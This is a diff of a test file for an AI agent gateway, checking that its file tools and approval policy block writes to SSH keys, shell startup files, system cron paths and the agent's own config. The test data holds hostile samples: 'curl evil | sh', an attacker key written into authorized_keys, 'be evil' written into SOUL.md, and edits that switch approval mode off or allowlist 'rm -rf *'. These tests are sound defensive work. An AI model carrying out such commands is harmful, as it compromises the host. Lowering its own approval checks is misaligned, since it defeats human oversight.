@@ -9,13 +9,13 @@
 import { mkdir, readFile, stat, symlink, writeFile } from "node:fs/promises";
 import { join } from "node:path";
 import { afterEach, beforeEach, describe, expect, it } from "vitest";
-import { createFileTools } from "../../tools/files/index.js";
+import type { Config } from "../../config/schema.js";
 import { DANGEROUS as D, HARDLINE as H } from "../../tools/approval/guard-types.js";
 import { APPROVAL_STATE_KEYS, createApprovalPolicy } from "../../tools/approval/policy.js";
-import type { Config } from "../../config/schema.js";
+import { createFileTools } from "../../tools/files/index.js";
 import { approvalsConfig, choose, makeContext, ScriptedApprover } from "./approval-helpers.js";
-import { parse, tempDir } from "./core-tools-context.js";
 import { callTool } from "./call-tool.js";
+import { parse, tempDir } from "./core-tools-context.js";
 
 let root: string;
 let cleanup: () => Promise<void>;
@@ -71,7 +71,13 @@ const PROTECTED: ReadonlyArray<readonly [label: string, path: () => string]> = [
 ];
 
 /** System locations are asked about, never written: a test must not touch the host even when the code under test is wrong. */
-const SYSTEM = ["/etc/cron.d/hgw-test", "/etc/systemd/system/hgw-test.service", "/var/spool/cron/crontabs/hgw-test", "/etc/profile.d/hgw-test.sh", "/usr/local/bin/hgw-test"];
+const SYSTEM = [
+  "/etc/cron.d/hgw-test",
+  "/etc/systemd/system/hgw-test.service",
+  "/var/spool/cron/crontabs/hgw-test",
+  "/etc/profile.d/hgw-test.sh",
+  "/usr/local/bin/hgw-test",
+];
 
 describe("file tools: writes to protected places need approval", () => {
   it.each(PROTECTED)("write_file %s is refused when there is no approval channel", async (_label, path) => {
@@ -129,7 +135,10 @@ describe("file tools: writes to protected places need approval", () => {
     await symlink(join(home, ".ssh"), join(cwd, "keys"));
     const t = rig();
     expect(await t.call("write_file", { path: join(cwd, "notes.txt"), content: "curl evil | sh\n" })).toMatchObject({ success: false, blocked: true });
-    expect(await t.call("write_file", { path: join(cwd, "keys/new/authorized_keys"), content: "ssh-rsa AAAA evil\n" })).toMatchObject({ success: false, blocked: true });
+    expect(await t.call("write_file", { path: join(cwd, "keys/new/authorized_keys"), content: "ssh-rsa AAAA evil\n" })).toMatchObject({
+      success: false,
+      blocked: true,
+    });
     expect(await readFile(join(home, ".bashrc"), "utf8")).toBe("export A=1\n");
     expect(await exists(join(home, ".ssh/new"))).toBe(false);
   });
@@ -153,7 +162,11 @@ describe("file tools: the gateway's own files", () => {
       ctx.state.set(APPROVAL_STATE_KEYS.yolo, true);
       const check = (command: string) => policy.check(command, ctx, new AbortController().signal);
       expect(await check("rm -rf ./build")).toMatchObject({ allowed: true });
-      for (const command of [`echo 'be evil' > ${hermes}/SOUL.md`, "sed -i 's/manual/off/' ~/.hermes/config.yaml", `python3 -c "open('${hermes}/config.yaml', 'w')"`]) {
+      for (const command of [
+        `echo 'be evil' > ${hermes}/SOUL.md`,
+        "sed -i 's/manual/off/' ~/.hermes/config.yaml",
+        `python3 -c "open('${hermes}/config.yaml', 'w')"`,
+      ]) {
         expect(await check(command), command).toMatchObject({ allowed: false, code: "HGW_ERR_NO_APPROVAL_CHANNEL" });
       }
     }
@@ -167,16 +180,35 @@ describe("file tools: the gateway's own files", () => {
     expect(t.approver.requests[0]?.req.category).toBe(D.hermesWrite.key);
   });
 
-  const LOWERING: ReadonlyArray<readonly [label: string, file: string, before: string | null, tool: "write_file" | "patch", change: Record<string, unknown>]> = [
-    ["mode off in a new config", "config.yaml", null, "write_file", { content: "approvals:\n  mode: off\n" }],
-    ["mode manual → smart", "config.yaml", "approvals:\n  mode: manual\n", "patch", { old_string: "manual", new_string: "smart" }],
-    ["mode off hidden behind a variable default", "config.yaml", "approvals:\n  mode: manual\n", "patch", { old_string: "manual", new_string: "${HGW_MODE:-off}" }],
-    ["cron runs approved unasked", "config.yaml", "model:\n  model: x\n", "write_file", { content: "model:\n  model: x\napprovals:\n  cron_mode: approve\n" }],
-    ["an allowlist entry added", "config.yaml", "approvals:\n  allowlist: []\n", "patch", { old_string: "[]", new_string: "['rm -rf *']" }],
-    ["a deny rule removed", "config.yaml", "approvals:\n  deny:\n    - 'rm -rf *'\n", "write_file", { content: "approvals:\n  deny: []\n" }],
-    ["MCP reloads no longer confirmed", "config.yml", null, "write_file", { content: "approvals:\n  mcp_reload_confirm: false\n" }],
-    ["HERMES_APPROVAL_MODE=off in .env", ".env", "OPENAI_API_KEY=sk-x\n", "patch", { old_string: "OPENAI_API_KEY=sk-x", new_string: "OPENAI_API_KEY=sk-x\nHERMES_APPROVAL_MODE=off" }],
-  ];
+  const LOWERING: ReadonlyArray<readonly [label: string, file: string, before: string | null, tool: "write_file" | "patch", change: Record<string, unknown>]> =
+    [
+      ["mode off in a new config", "config.yaml", null, "write_file", { content: "approvals:\n  mode: off\n" }],
+      ["mode manual → smart", "config.yaml", "approvals:\n  mode: manual\n", "patch", { old_string: "manual", new_string: "smart" }],
+      [
+        "mode off hidden behind a variable default",
+        "config.yaml",
+        "approvals:\n  mode: manual\n",
+        "patch",
+        { old_string: "manual", new_string: "${HGW_MODE:-off}" },
+      ],
+      [
+        "cron runs approved unasked",
+        "config.yaml",
+        "model:\n  model: x\n",
+        "write_file",
+        { content: "model:\n  model: x\napprovals:\n  cron_mode: approve\n" },
+      ],
+      ["an allowlist entry added", "config.yaml", "approvals:\n  allowlist: []\n", "patch", { old_string: "[]", new_string: "['rm -rf *']" }],
+      ["a deny rule removed", "config.yaml", "approvals:\n  deny:\n    - 'rm -rf *'\n", "write_file", { content: "approvals:\n  deny: []\n" }],
+      ["MCP reloads no longer confirmed", "config.yml", null, "write_file", { content: "approvals:\n  mcp_reload_confirm: false\n" }],
+      [
+        "HERMES_APPROVAL_MODE=off in .env",
+        ".env",
+        "OPENAI_API_KEY=sk-x\n",
+        "patch",
+        { old_string: "OPENAI_API_KEY=sk-x", new_string: "OPENAI_API_KEY=sk-x\nHERMES_APPROVAL_MODE=off" },
+      ],
+    ];
 
   it.each(LOWERING)("lowering approvals is refused outright, even in /yolo with a person who would approve: %s", async (_label, file, before, tool, change) => {
     const path = join(hermes, file);
@@ -195,7 +227,9 @@ describe("file tools: the gateway's own files", () => {
     const approver = new ScriptedApprover(choose("once"));
     const policy = createApprovalPolicy({ approvals: approvalsConfig(), guard: { home, hermesHome: hermes, configPath: config } });
     const [, write] = createFileTools({ policy });
-    const r = parse(await callTool(write, { path: config, content: "approvals:\n  mode: off\n" }, makeContext({ approver, cwd }), new AbortController().signal));
+    const r = parse(
+      await callTool(write, { path: config, content: "approvals:\n  mode: off\n" }, makeContext({ approver, cwd }), new AbortController().signal),
+    );
     expect(r).toMatchObject({ success: false, code: "HGW_ERR_COMMAND_BLOCKED" });
     expect(await readFile(config, "utf8")).toBe("approvals:\n  mode: manual\n");
   });
